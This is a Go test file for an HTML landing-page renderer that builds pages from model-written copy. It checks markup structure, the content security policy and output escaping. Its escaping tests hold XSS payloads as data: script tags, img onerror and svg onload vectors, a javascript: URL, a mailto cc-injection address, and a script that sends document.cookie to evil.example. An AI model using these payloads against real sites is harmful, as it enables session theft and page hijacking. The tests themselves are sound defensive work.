package landing

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

func goodCopy(t *testing.T) Copy {
	t.Helper()
	c, err := ParseCopy(marshal(t, goodAnswer()))
	if err != nil {
		t.Fatal(err)
	}
	return c
}

var goodBrief = Brief{
	BusinessName: "Friesian Construction",
	ClientEmail:  "owner@friesian.example",
	Industry:     "Construction",
	Tone:         "confident",
	Description:  "Timber barns.",
}

func render(t *testing.T, b Brief, c Copy) []byte {
	t.Helper()
	out, err := Render(b, c)
	if err != nil {
		t.Fatalf("Render: %v", err)
	}
	checkWellFormed(t, out)
	return out
}

// voidElements have no end tag in HTML.
var voidElements = map[string]bool{
	"area": true, "base": true, "br": true, "col": true, "embed": true, "hr": true, "img": true,
	"input": true, "link": true, "meta": true, "source": true, "track": true, "wbr": true,
}

// checkWellFormed checks that the page is an HTML5 document whose every
// element is closed in order, and that the parsed tree has no script, no
// event handler attribute and no external resource.
func checkWellFormed(t *testing.T, page []byte) {
	t.Helper()
	if !bytes.HasPrefix(page, []byte("<!DOCTYPE html>\n<html lang=")) {
		t.Errorf("page does not start with the HTML5 doctype: %.40q", page)
	}
	z := html.NewTokenizer(bytes.NewReader(page))
	var open []string
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			if z.Err() != io.EOF {
				t.Fatalf("tokenizing: %v", z.Err())
			}
			break
		}
		tok := z.Token()
		switch tt {
		case html.StartTagToken:
			if !voidElements[tok.Data] {
				open = append(open, tok.Data)
			}
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != tok.Data {
				t.Fatalf("</%s> closes %v", tok.Data, open)
			}
			open = open[:len(open)-1]
		case html.SelfClosingTagToken:
			t.Errorf("self-closing <%s/> in HTML5", tok.Data)
		}
	}
	if len(open) != 0 {
		t.Fatalf("unclosed elements %v", open)
	}

	doc, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.DataAtom {
		case atom.Script, atom.Img, atom.Iframe, atom.Object, atom.Embed, atom.Link, atom.Base, atom.Form:
			t.Errorf("page has a <%s> element", n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(strings.ToLower(a.Key), "on") || a.Key == "src" || a.Key == "srcset" {
				t.Errorf("<%s> has attribute %s=%q", n.Data, a.Key, a.Val)
			}
			if a.Key == "href" && !strings.HasPrefix(a.Val, "#") && !strings.HasPrefix(a.Val, "mailto:") {
				t.Errorf("<%s> links out to %q", n.Data, a.Val)
			}
		}
	}
}

// find returns the first element with the atom a and, when key is not
// empty, the attribute key=val.
func find(doc *html.Node, a atom.Atom, key, val string) *html.Node {
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode || n.DataAtom != a {
			continue
		}
		if key == "" || attr(n, key) == val {
			return n
		}
	}
	return nil
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func text(n *html.Node) string {
	var b strings.Builder
	for d := range n.Descendants() {
		if d.Type == html.TextNode {
			b.WriteString(d.Data)
		}
	}
	return b.String()
}

func parse(t *testing.T, page []byte) *html.Node {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

func TestRenderDocument(t *testing.T) {
	c := goodCopy(t)
	doc := parse(t, render(t, goodBrief, c))
	if n := find(doc, atom.Html, "lang", "en"); n == nil {
		t.Error(`no <html lang="en">`)
	}
	if find(doc, atom.Meta, "charset", "utf-8") == nil {
		t.Error("no charset")
	}
	if n := find(doc, atom.Meta, "name", "viewport"); n == nil || !strings.Contains(attr(n, "content"), "width=device-width") {
		t.Error("no responsive viewport")
	}
	if n := find(doc, atom.Meta, "http-equiv", "Content-Security-Policy"); n == nil || !strings.Contains(attr(n, "content"), "default-src 'none'") {
		t.Error("no CSP")
	}
	if n := find(doc, atom.Title, "", ""); n == nil || text(n) != "Friesian Construction · "+c.Headline {
		t.Errorf("title = %q", text(n))
	}
	if n := find(doc, atom.Meta, "name", "description"); n == nil || attr(n, "content") != c.Subheadline {
		t.Error("meta description is not the subheadline")
	}
	if n := find(doc, atom.Style, "", ""); n == nil || !strings.Contains(text(n), "@media") {
		t.Error("no inline responsive CSS")
	}
	if n := find(doc, atom.H1, "", ""); n == nil || text(n) != c.Headline {
		t.Error("no headline")
	}
	body := text(find(doc, atom.Body, "", ""))
	for _, want := range []string{
		c.Subheadline, "Who we are", "A family firm of carpenters.", "We build with local oak.",
		"How we work", "Timber barns", "Stables", "Plan your barn", c.CallToAction.Detail,
		"Do you work in winter?", "Frequently asked questions", "Construction",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("page does not show %q", want)
		}
	}
	// Paragraphs of a body become separate <p>.
	if n := find(doc, atom.P, "", ""); n == nil {
		t.Error("no paragraphs")
	}
	if find(doc, atom.A, "href", "mailto:owner@friesian.example") == nil {
		t.Error("no mailto link")
	}
}

func TestRenderEscapesInjection(t *testing.T) {
	for _, payload := range []string{
		`<script>alert(1)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`'><svg onload=alert(1)>`,
		`</title><script>alert(1)</script>`,
		`javascript:alert(1)`,
	} {
		t.Run(payload, func(t *testing.T) {
			c := Copy{
				Lang: "en", Headline: payload, Subheadline: payload,
				Sections:     []Section{{Title: payload, Body: payload + "\n\n" + payload}},
				Services:     []Service{{Name: payload, Description: payload}},
				CallToAction: CTA{Text: payload, Detail: payload},
				FAQ:          []QA{{Question: payload, Answer: payload}},
			}
			b := Brief{BusinessName: payload, Industry: payload, ClientEmail: payload}
			out := render(t, b, c)
			for _, raw := range []string{"<script", "<img", "<svg", "</title><"} {
				if bytes.Contains(out, []byte(raw)) {
					t.Errorf("raw %q in the page", raw)
				}
			}
			if strings.HasPrefix(payload, "<") || strings.HasPrefix(payload, `"`) {
				esc := strings.NewReplacer("<", "&lt;", ">", "&gt;", `"`, "&#34;", "'", "&#39;").Replace(payload)
				if !bytes.Contains(out, []byte(esc)) {
					t.Errorf("escaped form %q not in the page", esc)
				}
			}
			// Parsed back, the payload is text, exactly as the model wrote it.
			doc := parse(t, out)
			if got := text(find(doc, atom.H1, "", "")); got != payload {
				t.Errorf("h1 text = %q", got)
			}
			if got := attr(find(doc, atom.Meta, "name", "description"), "content"); got != payload {
				t.Errorf("description = %q", got)
			}
		})
	}
}

func TestRenderParsedAnswerWithScript(t *testing.T) {
	m := goodAnswer()
	m["headline"] = `Best barns <script>fetch("//evil.example?c="+document.cookie)</script>`
	m["services"] = []any{map[string]any{"name": `"><img src=x onerror=alert(1)>`, "description": "<b>bold</b> claims"}}
	c, err := ParseCopy("```json\n" + marshal(t, m) + "\n```")
	if err != nil {
		t.Fatal(err)
	}
	out := render(t, goodBrief, c)
	for _, raw := range []string{"<script", "<img", "<b>"} {
		if bytes.Contains(out, []byte(raw)) {
			t.Errorf("raw %q in the page", raw)
		}
	}
	for _, esc := range []string{"&lt;script&gt;", "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;", "&lt;b&gt;bold&lt;/b&gt;"} {
		if !bytes.Contains(out, []byte(esc)) {
			t.Errorf("escaped %q not in the page", esc)
		}
	}
}

func TestRenderContactLink(t *testing.T) {
	for _, tc := range []struct {
		email, href string // href "" means no mailto link
	}{
		{"owner@friesian.example", "mailto:owner@friesian.example"},
		{"  Owner@Friesian.example ", "mailto:Owner@Friesian.example"},
		{"Ann Owner <ann+barns@friesian.example>", "mailto:ann+barns@friesian.example"},
		{`"x?cc=evil@bad.example"@friesian.example`, "mailto:x%3Fcc%3Devil@bad.example@friesian.example"},
		{"", ""},
		{"not an email", ""},
		{"owner@localhost", ""},
		{"a@b.example, c@d.example", ""},
		{`a@b.example"><script>alert(1)</script>`, ""},
		{"javascript:alert(1)//@x.example", ""},
	} {
		t.Run(tc.email, func(t *testing.T) {
			b := goodBrief
			b.ClientEmail = tc.email
			doc := parse(t, render(t, b, goodCopy(t)))
			var hrefs []string
			for n := range doc.Descendants() {
				if n.DataAtom == atom.A && strings.HasPrefix(attr(n, "href"), "mailto:") {
					hrefs = append(hrefs, attr(n, "href"))
				}
			}
			if tc.href == "" {
				if len(hrefs) != 0 {
					t.Errorf("links %v, want none", hrefs)
				}
				return
			}
			if len(hrefs) == 0 {
				t.Fatalf("no mailto link, want %s", tc.href)
			}
			for _, h := range hrefs {
				if h != tc.href {
					t.Errorf("link %s, want %s", h, tc.href)
				}
			}
		})
	}
}

func TestRenderDescriptionIsShortened(t *testing.T) {
	c := goodCopy(t)
	c.Subheadline = strings.Repeat("Sturdy timber barns built by hand. ", 8)
	desc := attr(find(parse(t, render(t, goodBrief, c)), atom.Meta, "name", "description"), "content")
	if n := utf8.RuneCountInString(desc); n > maxDescription || n < maxDescription/2 {
		t.Errorf("description has %d characters: %q", n, desc)
	}
	if !strings.HasSuffix(desc, "…") || !strings.HasPrefix(c.Subheadline, strings.TrimSuffix(desc, "…")) {
		t.Errorf("description = %q", desc)
	}
}

func TestRenderLanguage(t *testing.T) {
	for lang, services := range map[string]string{"": "Services", "en": "Services", "de": "Leistungen", "pt-BR": "Serviços", "fi": "Services"} {
		t.Run(lang, func(t *testing.T) {
			c := goodCopy(t)
			c.Lang = lang
			doc := parse(t, render(t, goodBrief, c))
			want := lang
			if want == "" {
				want = "en"
			}
			if find(doc, atom.Html, "lang", want) == nil {
				t.Errorf("no <html lang=%q>", want)
			}
			if !strings.Contains(text(doc), services) {
				t.Errorf("no %q heading", services)
			}
		})
	}
}

func TestRenderRefusesInvalidCopy(t *testing.T) {
	c := goodCopy(t)
	c.Headline = ""
	if _, err := Render(goodBrief, c); err == nil || !strings.Contains(err.Error(), "headline") {
		t.Errorf("Render of copy without headline: %v", err)
	}
	if _, err := Render(goodBrief, Copy{}); err == nil {
		t.Error("Render of empty copy succeeded")
	}
}

func TestRenderIsDeterministic(t *testing.T) {
	c := goodCopy(t)
	a, b := render(t, goodBrief, c), render(t, goodBrief, c)
	if !bytes.Equal(a, b) {
		t.Error("two renders differ")
	}
}

func TestRenderFullPage(t *testing.T) {
	full := goodCopy(t)
	full.Sections, full.Services, full.FAQ = nil, nil, nil
	for i := range maxSections {
		full.Sections = append(full.Sections, Section{Title: fmt.Sprint("Section ", i), Body: "One.\n\nTwo."})
	}
	for i := range maxServices {
		full.Services = append(full.Services, Service{Name: fmt.Sprint("Service ", i), Description: "Does things."})
	}
	for i := range maxFAQ {
		full.FAQ = append(full.FAQ, QA{Question: fmt.Sprint("Question ", i, "?"), Answer: "Yes."})
	}
	doc := parse(t, render(t, goodBrief, full))
	var sections, cards, questions int
	for n := range doc.Descendants() {
		switch {
		case n.DataAtom == atom.Section:
			sections++
		case n.DataAtom == atom.Li:
			cards++
		case n.DataAtom == atom.Details:
			questions++
		}
	}
	// The copy's sections plus services, FAQ and contact.
	if sections != maxSections+3 || cards != maxServices || questions != maxFAQ {
		t.Errorf("%d sections, %d service cards, %d questions", sections, cards, questions)
	}
}

// FuzzParseRender checks that whatever answer ParseCopy accepts renders to a
// page with no markup of the model's own.
func FuzzParseRender(f *testing.F) {
	f.Add(`{"headline":"<script>x</script>","subheadline":"s","sections":[{"title":"t","body":"b"}],"services":[{"name":"n","description":"d"}],"call_to_action":{"text":"c","detail":"d"}}`)
	f.Add("```json\n{\"headline\":\"\\\"><img onerror=1>\"}\n```")
	f.Fuzz(func(t *testing.T, answer string) {
		c, err := ParseCopy(answer)
		if err != nil {
			return
		}
		out, err := Render(Brief{BusinessName: answer, ClientEmail: answer}, c)
		if err != nil {
			t.Fatalf("Render refused copy ParseCopy accepted: %v", err)
		}
		checkWellFormed(t, out)
	})
}
